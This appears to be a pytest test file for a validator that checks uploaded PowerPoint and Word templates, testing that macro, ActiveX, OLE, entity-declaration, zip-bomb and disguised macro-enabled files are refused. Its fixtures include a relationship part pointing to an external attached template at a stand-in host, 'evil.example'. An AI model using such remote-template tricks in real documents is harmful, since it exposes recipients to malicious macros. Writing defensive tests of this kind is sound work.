"""Uploaded templates: what is refused by name, and what the files made on them look like."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import docx
import pytest
from pptx import Presentation
from pptx.util import Inches

from shared.company.packages import FILE_MAX_B, Kind, check_template
from shared.workshop.state import Refusal

HYPERLINK = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def deck(wide: float = 13.333, high: float = 7.5) -> bytes:
    made = Presentation()
    made.slide_width, made.slide_height = Inches(wide), Inches(high)
    slide = made.slides.add_slide(made.slide_layouts[0])
    if slide.shapes.title is not None:
        slide.shapes.title.text = "Esimerkkidia"
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def letter() -> bytes:
    made = docx.Document()
    made.add_paragraph("Vanha teksti")
    made.sections[0].header.paragraphs[0].text = "Nordtek Oy"
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def with_parts(content: bytes, parts: Mapping[str, bytes]) -> bytes:
    """The same archive with more parts."""
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return buffer.getvalue()


@pytest.mark.parametrize(("content", "kind"), [(deck(), "pptx"), (letter(), "docx")])
def test_an_honest_template_is_taken(content: bytes, kind: Kind) -> None:
    assert check_template(content, kind) is None


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        ({"ppt/vbaProject.bin": b"macro"}, "template_macros"),
        ({"ppt/activeX/activeX1.xml": b"<x/>"}, "template_macros"),
        ({"ppt/embeddings/oleObject1.bin": b"x"}, "template_macros"),
        ({"ppt/slides/_rels/slide9.xml.rels": HYPERLINK}, "template_external"),
        ({"ppt/evil.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}, "template_unreadable"),
        ({"ppt/media/big.png": bytes(30 * 1024 * 1024)}, "template_bomb"),
        ({f"ppt/many{number}.txt": b"" for number in range(2001)}, "template_bomb"),
    ],
)
def test_what_is_dangerous_in_a_deck_is_refused_by_name(parts: Mapping[str, bytes], code: str) -> None:
    refusal = check_template(with_parts(deck(), parts), "pptx")

    assert refusal is not None
    assert refusal.code == code


def test_a_link_out_is_named() -> None:
    content = with_parts(letter(), {"word/_rels/settings.xml.rels": HYPERLINK})

    assert check_template(content, "docx") == Refusal(
        "template_external", {"target": "http://evil.example/a.dotm"}
    )


def test_a_document_with_macros_under_another_name_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(letter())) as old, zipfile.ZipFile(buffer, "w") as new:
        for part in old.infolist():
            content = old.read(part)
            if part.filename == "[Content_Types].xml":
                content = content.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            new.writestr(part.filename, content)

    refusal = check_template(buffer.getvalue(), "docx")

    assert refusal == Refusal("template_macros", {"part": "[Content_Types].xml"})


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04rubbish", b"%PDF-1.7", letter(), deck()[:5000]])
def test_what_is_no_deck_is_refused(content: bytes) -> None:
    assert check_template(content, "pptx") == Refusal("template_unreadable")


def test_a_file_that_is_too_large_is_not_looked_into() -> None:
    assert check_template(bytes(FILE_MAX_B + 1), "pptx") == Refusal("template_too_large", {"max": 10})


def test_slides_of_another_size_are_refused() -> None:
    assert check_template(deck(10, 7.5), "pptx") == Refusal("template_size")
